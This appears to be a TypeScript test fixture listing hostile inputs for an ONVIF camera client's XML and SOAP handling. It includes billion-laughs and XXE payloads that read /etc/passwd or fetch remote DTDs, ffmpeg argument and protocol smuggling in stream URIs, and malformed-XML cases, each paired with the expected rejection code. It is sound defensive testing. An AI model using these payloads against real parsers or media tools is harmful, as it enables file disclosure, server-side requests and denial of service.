/**
 * Malformed and hostile payloads, as tables: what a broken or malicious
 * camera (or anyone else on the LAN) could send us.
 */
import type { OnvifErrorCode } from '../../../main/engine/onvif/index.ts';

const SOAP12 = 'http://www.w3.org/2003/05/soap-envelope';

export function soap(body: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?><env:Envelope xmlns:env="${SOAP12}" xmlns:trt="http://www.onvif.org/ver10/media/wsdl" xmlns:tt="http://www.onvif.org/ver10/schema" xmlns:tds="http://www.onvif.org/ver10/device/wsdl"><env:Body>${body}</env:Body></env:Envelope>`;
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');

export function streamUriReply(uri: string): string {
  return soap(`<trt:GetStreamUriResponse><trt:MediaUri><tt:Uri>${esc(uri)}</tt:Uri></trt:MediaUri></trt:GetStreamUriResponse>`);
}

const VALID_PROFILES = soap(
  '<trt:GetProfilesResponse><trt:Profiles token="p1"><tt:Name>Main</tt:Name><tt:VideoEncoderConfiguration token="v1">' +
    '<tt:Encoding>H264</tt:Encoding><tt:Resolution><tt:Width>1920</tt:Width><tt:Height>1080</tt:Height></tt:Resolution>' +
    '</tt:VideoEncoderConfiguration></trt:Profiles></trt:GetProfilesResponse>',
);

const BILLION_LAUGHS =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') +
  ']><lolz>&lol9;</lolz>';

type Codes = OnvifErrorCode[];
const MALFORMED: Codes = ['XML_MALFORMED'];
const FORBIDDEN: Codes = ['XML_FORBIDDEN_DECLARATION'];

/** Raw documents for the parser, each with the error codes it may produce. */
export const HOSTILE_DOCUMENTS: Array<[label: string, payload: string | Buffer, codes: Codes]> = [
  ...[0.1, 0.3, 0.5, 0.7, 0.9, 0.99].map(
    (fraction): [string, string, Codes] => [`truncated at ${fraction * 100}%`, VALID_PROFILES.slice(0, Math.floor(VALID_PROFILES.length * fraction)), MALFORMED],
  ),
  ['billion laughs', BILLION_LAUGHS, FORBIDDEN],
  ['quadratic blow-up', `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(1000)}</a>`, FORBIDDEN],
  ['external entity (file)', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', FORBIDDEN],
  ['external entity (http)', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://203.0.113.9/x">]><foo>&xxe;</foo>', FORBIDDEN],
  ['parameter entity', '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://203.0.113.9/p.dtd"> %p;]><foo/>', FORBIDDEN],
  ['external DTD', '<!DOCTYPE foo SYSTEM "http://203.0.113.9/foo.dtd"><foo/>', FORBIDDEN],
  ['lower-case doctype', '<!doctype foo><foo/>', FORBIDDEN],
  ['DOCTYPE after a comment', '<!-- hi --><!DOCTYPE foo><foo/>', FORBIDDEN],
  ['DOCTYPE inside the body', soap('<!DOCTYPE x [<!ENTITY a "b">]>'), FORBIDDEN],
  ['bare ENTITY declaration', '<!ENTITY x "y"><foo/>', FORBIDDEN],
  ['ELEMENT declaration', '<a><!ELEMENT a ANY></a>', FORBIDDEN],
  ['undefined entity', soap('<x>&xxe;</x>'), MALFORMED],
  ['entity without semicolon', '<a>&amp</a>', MALFORMED],
  ['lone ampersand', '<a>fish & chips</a>', MALFORMED],
  ['NUL character reference', '<a>&#0;</a>', MALFORMED],
  ['character reference beyond Unicode', '<a>&#x110000;</a>', MALFORMED],
  ['surrogate character reference', '<a>&#xD800;</a>', MALFORMED],
  ['10 000 levels deep', '<a>'.repeat(10_000) + '</a>'.repeat(10_000), ['XML_TOO_DEEP']],
  ['100 000 unclosed levels', '<a>'.repeat(100_000), ['XML_TOO_DEEP', 'XML_MALFORMED']],
  ['10 MB body', soap(`<x>${'A'.repeat(10 * 1024 * 1024)}</x>`), ['XML_TOO_LARGE']],
  ['2 MB attribute', `<a b="${'x'.repeat(2 * 1024 * 1024)}"/>`, ['XML_TOO_LARGE']],
  ['30 000 sibling elements', `<a>${'<b/>'.repeat(30_000)}</a>`, ['XML_TOO_LARGE']],
  ['mismatched end tag', '<a><b></a></b>', MALFORMED],
  ['two roots', '<a/><b/>', MALFORMED],
  ['text before the root', 'hello <a/>', MALFORMED],
  ['unquoted attribute', '<a b=c/>', MALFORMED],
  ['duplicate attribute', '<a b="1" b="2"/>', MALFORMED],
  ['"<" in an attribute', '<a b="<script>"/>', MALFORMED],
  ['unterminated comment', '<a><!-- forever', MALFORMED],
  ['unterminated CDATA', '<a><![CDATA[ forever', MALFORMED],
  ['unterminated processing instruction', '<?xml version="1.0"', MALFORMED],
  ['unterminated attribute value', '<a b="forever>', MALFORMED],
  ['empty input', '', MALFORMED],
  ['whitespace only', '   \n\t ', MALFORMED],
  ['binary garbage', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)), MALFORMED],
  ['element name starting with a digit', '<1abc/>', MALFORMED],
  ['100 attributes', `<a ${Array.from({ length: 100 }, (_, i) => `a${i}="1"`).join(' ')}/>`, MALFORMED],
  ['JSON instead of XML', '{"Envelope":{"Body":{}}}', MALFORMED],
  ['NUL bytes between tags', '<a>\u0000</a>\u0000<b/>', MALFORMED],
];

/** GetStreamUri answers that must never become a recording URL. */
export const HOSTILE_STREAM_URIS: Array<[label: string, uri: string]> = [
  ['file: URI', 'file:///etc/passwd'],
  ['http: URI', 'http://127.0.0.1/video.mjpg'],
  ['https: URI', 'https://127.0.0.1/stream'],
  ['leading dash (ffmpeg option)', '-i rtsp://127.0.0.1/x'],
  ['bare option', '-filter_complex'],
  ['concat: protocol', 'concat:/etc/passwd|/etc/shadow'],
  ['pipe: protocol', 'pipe:0'],
  ['subfile: protocol', 'subfile,,start,0,end,0,,:/etc/passwd'],
  ['javascript: URI', 'javascript:alert(1)'],
  ['data: URI', 'data:text/plain,hello'],
  ['smb: URI', 'smb://127.0.0.1/share'],
  ['another host smuggled as userinfo', 'rtsp://127.0.0.1:554@cam2.example/Streaming/101'],
  ['userinfo with an encoded @', 'rtsp://127.0.0.1%40cam2.example:pw@cam2.example/live'],
  ['someone else’s login', 'rtsp://root:toor@127.0.0.1/live'],
  ['newline then an option', 'rtsp://127.0.0.1/live\n-i file:/etc/passwd'],
  ['space inside', 'rtsp://127.0.0.1/live -f null'],
  ['fragment', 'rtsp://127.0.0.1/live#x'],
  ['no host', 'rtsp:///live'],
  ['not a URL', 'definitely not a url'],
  ['3000 characters', `rtsp://127.0.0.1/${'a'.repeat(3000)}`],
  ['empty', ''],
];

/** Whole SOAP replies to GetProfiles, each with the error code onboarding must end with. */
export const HOSTILE_SOAP_REPLIES: Array<[label: string, reply: { status?: number; body: string; contentType?: string }, code: OnvifErrorCode]> = [
  ['billion laughs', { body: BILLION_LAUGHS }, 'XML_FORBIDDEN_DECLARATION'],
  ['XXE inside a SOAP reply', { body: '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + soap('<a>&x;</a>') }, 'XML_FORBIDDEN_DECLARATION'],
  ['10 MB reply', { body: soap(`<trt:GetProfilesResponse>${'<x/>'.repeat(2_700_000)}</trt:GetProfilesResponse>`) }, 'RESPONSE_TOO_LARGE'],
  ['envelope in a foreign namespace', { body: '<Envelope xmlns="http://evil.example/soap"><Body><GetProfilesResponse/></Body></Envelope>' }, 'NOT_A_SOAP_RESPONSE'],
  ['envelope with no namespace', { body: '<Envelope><Body><GetProfilesResponse/></Body></Envelope>' }, 'NOT_A_SOAP_RESPONSE'],
  ['envelope without a Body', { body: `<env:Envelope xmlns:env="${SOAP12}"><env:Header/></env:Envelope>` }, 'NOT_A_SOAP_RESPONSE'],
  ['HTML error page with 200', { body: '<html><body>Hello</body></html>', contentType: 'text/html' }, 'NOT_A_SOAP_RESPONSE'],
  ['plain text', { body: 'OK', contentType: 'text/plain' }, 'NOT_A_SOAP_RESPONSE'],
  ['empty 200', { body: '' }, 'NOT_A_SOAP_RESPONSE'],
  ['empty 500', { status: 500, body: '' }, 'HTTP_ERROR'],
  ['truncated reply', { body: VALID_PROFILES.slice(0, VALID_PROFILES.length - 40) }, 'XML_MALFORMED'],
  ['deeply nested reply', { body: soap('<a>'.repeat(5000) + '</a>'.repeat(5000)) }, 'XML_TOO_DEEP'],
  ['Body without GetProfilesResponse', { body: soap('<trt:SomethingElse/>') }, 'BAD_RESPONSE'],
  ['profiles without tokens', { body: soap('<trt:GetProfilesResponse><trt:Profiles><tt:Name>x</tt:Name></trt:Profiles></trt:GetProfilesResponse>') }, 'NO_PROFILES'],
  ['profile token of 5000 characters', { body: VALID_PROFILES.replace('token="p1"', `token="${'p'.repeat(5000)}"`) }, 'NO_PROFILES'],
  ['profile token with control characters', { body: VALID_PROFILES.replace('token="p1"', 'token="p&#10;1"') }, 'NO_PROFILES'],
  ['fault with a 200 kB reason', { status: 500, body: soap(`<env:Fault><env:Code><env:Value>env:Receiver</env:Value></env:Code><env:Reason><env:Text>${'x'.repeat(200_000)}</env:Text></env:Reason></env:Fault>`) }, 'RECEIVER_FAULT'],
];

const WSD = 'http://schemas.xmlsoap.org/ws/2005/04/discovery';
const WSA = 'http://schemas.xmlsoap.org/ws/2004/08/addressing';

export function probeMatch(options: { ref?: string; xaddrs?: string; relatesTo?: string; envelopeNs?: string; extra?: string } = {}): string {
  return (
    `<e:Envelope xmlns:e="${options.envelopeNs ?? SOAP12}" xmlns:a="${WSA}" xmlns:d="${WSD}">` +
    (options.relatesTo ? `<e:Header><a:RelatesTo>${options.relatesTo}</a:RelatesTo></e:Header>` : '') +
    '<e:Body><d:ProbeMatches><d:ProbeMatch>' +
    (options.ref === undefined ? '<a:EndpointReference><a:Address>urn:uuid:hostile</a:Address></a:EndpointReference>' : options.ref) +
    '<d:Types>dn:NetworkVideoTransmitter</d:Types><d:Scopes>onvif://www.onvif.org/name/Evil</d:Scopes>' +
    `<d:XAddrs>${options.xaddrs ?? 'http://127.0.0.1:1/onvif/device_service'}</d:XAddrs>${options.extra ?? ''}` +
    '</d:ProbeMatch></d:ProbeMatches></e:Body></e:Envelope>'
  );
}

/** ProbeMatch datagrams that must not produce a device. */
export const HOSTILE_PROBE_MATCHES: Array<[label: string, datagram: string | Buffer]> = [
  ['file: XAddr', probeMatch({ xaddrs: 'file:///etc/passwd' })],
  ['javascript: XAddr', probeMatch({ xaddrs: 'javascript:alert(1)' })],
  ['XAddr with credentials', probeMatch({ xaddrs: 'http://admin:admin@127.0.0.1/onvif/device_service' })],
  ['only unparseable XAddrs', probeMatch({ xaddrs: 'http:// [::zz] ::: %%%' })],
  ['no XAddrs at all', probeMatch({ xaddrs: '' })],
  ['missing EndpointReference', probeMatch({ ref: '' })],
  ['EndpointReference with control characters', probeMatch({ ref: '<a:EndpointReference><a:Address>urn:&#10;evil</a:Address></a:EndpointReference>' })],
  ['EndpointReference of 10 kB', probeMatch({ ref: `<a:EndpointReference><a:Address>${'u'.repeat(10_000)}</a:Address></a:EndpointReference>` })],
  ['answer to somebody else’s probe', probeMatch({ relatesTo: 'urn:uuid:not-ours' })],
  ['envelope in a foreign namespace', probeMatch({ envelopeNs: 'http://evil.example/' })],
  ['billion laughs', BILLION_LAUGHS],
  ['external entity', '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + probeMatch({ extra: '&x;' })],
  ['truncated', probeMatch().slice(0, 200)],
  ['3000 elements', probeMatch({ extra: '<x/>'.repeat(3000) })],
  ['nested 1000 deep', probeMatch({ extra: '<x>'.repeat(1000) + '</x>'.repeat(1000) })],
  ['binary garbage', Buffer.from(Array.from({ length: 1200 }, (_, i) => (i * 31) % 256))],
  ['empty datagram', Buffer.alloc(0)],
];
